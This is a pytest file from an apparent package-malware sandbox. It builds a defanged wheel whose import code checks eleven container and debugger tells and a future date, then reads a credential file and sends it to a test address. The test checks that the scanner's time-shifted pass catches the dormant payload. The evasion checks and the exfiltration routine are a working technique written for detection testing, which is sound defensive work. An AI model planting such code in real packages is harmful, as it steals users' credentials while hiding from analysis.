"""Environment-aware malware (issue 11, "No tells" and "Dormant payloads wake"): a
randomised, defanged wheel whose import checks every tell the issue lists and the
clock, and only when the machine looks like a workstation *and* the date is past a
day in the future reads a honey credential and sends it to a TEST-NET address.

Under the default pass the sandbox still gives itself away (``doctor --tells``) and
the date has not come: the payload stays dormant.  The judge must still end
``malicious``: the probes wake the time-travel pass, whose clock is past the date
and whose candidate interpreters see no tell."""

from __future__ import annotations

import textwrap
import time
from pathlib import Path

import pytest

from sandbox.models import Phase, Verdict
from tests.conftest import run_cli
from tests.fixtures.builders import Randomised, build_wheel

pytestmark = [pytest.mark.usefixtures("sandbox_image", "no_leaks"), pytest.mark.slow]

# Every tell the fixture looks at, by the name it reports (stderr) when it sees one.
TELLS = (
    "pid1",
    "tracer",
    "mounts",
    "cgroup",
    "marker",
    "procs",
    "mac",
    "hostname",
    "uptime",
    "cpus",
    "memory",
)


def envaware_source(r: Randomised, cred: str, host: str, port: int, not_before: int) -> str:
    """Import-time code: look at every tell and the clock; act only when none shows."""
    procs_min = r.rng.randrange(25, 60)
    return textwrap.dedent(
        f"""\
        import os, socket, sys, time

        def _rd(p):
            try:
                with open(p) as fh:
                    return fh.read()
            except OSError:
                return ""

        def _tells():
            seen = []
            if _rd("/proc/1/comm").strip() in ("docker-init", "tini", "sleep", "dumb-init",
                                                "catatonit", "sh", "bash", "python", "python3"):
                seen.append("pid1")
            for line in _rd("/proc/self/status").splitlines():
                if line.startswith("TracerPid:") and line.split()[1:2] != ["0"]:
                    seen.append("tracer")
            mounts = _rd("/proc/self/mounts")
            if "docker" in mounts or "overlay" in mounts:
                seen.append("mounts")
            cg = [l for l in _rd("/proc/1/cgroup").splitlines() if l]
            if any(w in "".join(cg) for w in ("docker", "kubepods", "containerd", "lxc")) or all(
                l.endswith(":/") for l in cg
            ):
                seen.append("cgroup")
            if os.path.exists("/.dockerenv") or os.path.exists("/run/.containerenv"):
                seen.append("marker")
            if sum(1 for d in os.listdir("/proc") if d.isdigit()) < {procs_min}:
                seen.append("procs")
            try:
                nics = [n for n in os.listdir("/sys/class/net") if n != "lo"]
            except OSError:
                nics = []
            for n in nics:
                mac = _rd("/sys/class/net/" + n + "/address").strip()
                if mac.startswith("02:42") or (len(mac) == 17 and int(mac[:2], 16) & 2):
                    seen.append("mac")
                    break
            h = socket.gethostname()
            if len(h) == 12 and all(c in "0123456789abcdef" for c in h):
                seen.append("hostname")
            try:
                if float(_rd("/proc/uptime").split()[0]) < 600:
                    seen.append("uptime")
            except (IndexError, ValueError):
                seen.append("uptime")
            if (os.cpu_count() or 1) < 2:
                seen.append("cpus")
            mem = [l for l in _rd("/proc/meminfo").splitlines() if l.startswith("MemTotal:")]
            if not mem or int(mem[0].split()[1]) < 2 * 1024 * 1024:
                seen.append("memory")
            return seen

        def _act():
            try:
                data = open(os.path.join(os.path.expanduser("~"), {cred!r}), "rb").read()
            except OSError:
                data = b"none"
            s = socket.socket()
            s.settimeout(2)
            try:
                s.connect(({host!r}, {port}))
                s.sendall(b"POST /u HTTP/1.1\\r\\nHost: x.invalid\\r\\nContent-Length: "
                          + str(len(data)).encode() + b"\\r\\n\\r\\n" + data)
            except OSError:
                pass
            finally:
                s.close()

        _seen = _tells()
        _due = time.time() > {not_before}
        sys.stderr.write("envaware: tells=%s due=%s\\n" % (",".join(_seen) or "none", _due))
        if not _seen and _due:
            _act()
        """
    )


def test_an_environment_aware_time_bomb_is_caught(tmp_path: Path) -> None:
    r = Randomised()
    name, host, port, cred = r.name("envaware"), r.address(), r.port(), r.credential()
    # a day 20 to 29 days ahead: never reached by the real clock during the run, always
    # by the time pass's (30 to 180 days ahead)
    not_before = int(time.time()) + r.rng.randrange(20, 30) * 86400
    src = envaware_source(r, cred, host, port, not_before)
    whl = build_wheel(tmp_path, name, "1.0", {f"{name}/__init__.py": src})
    code, report = run_cli(tmp_path, str(whl))
    assert report is not None
    summary = [(f.rule_id, f.severity.value, f.phase.value, f.pass_name, f.message) for f in report.findings]
    outputs = "\n".join(p.output_tail for p in report.phases if p.phase is Phase.IMPORT)
    # what the default pass still gives away, as the fixture saw it (for the report)
    print("fixture saw:", [line for line in outputs.splitlines() if "envaware:" in line])
    assert any(f.rule_id == "PS030" for f in report.findings), summary
    # the payload ran in the time pass: the credential read and the send to TEST-NET
    woke = [f for f in report.findings if f.pass_name == "time"]
    assert any(f.rule_id in ("PS001", "PS002", "PS010", "PS013") for f in woke), summary
    assert report.verdict is Verdict.MALICIOUS and code == 1, summary
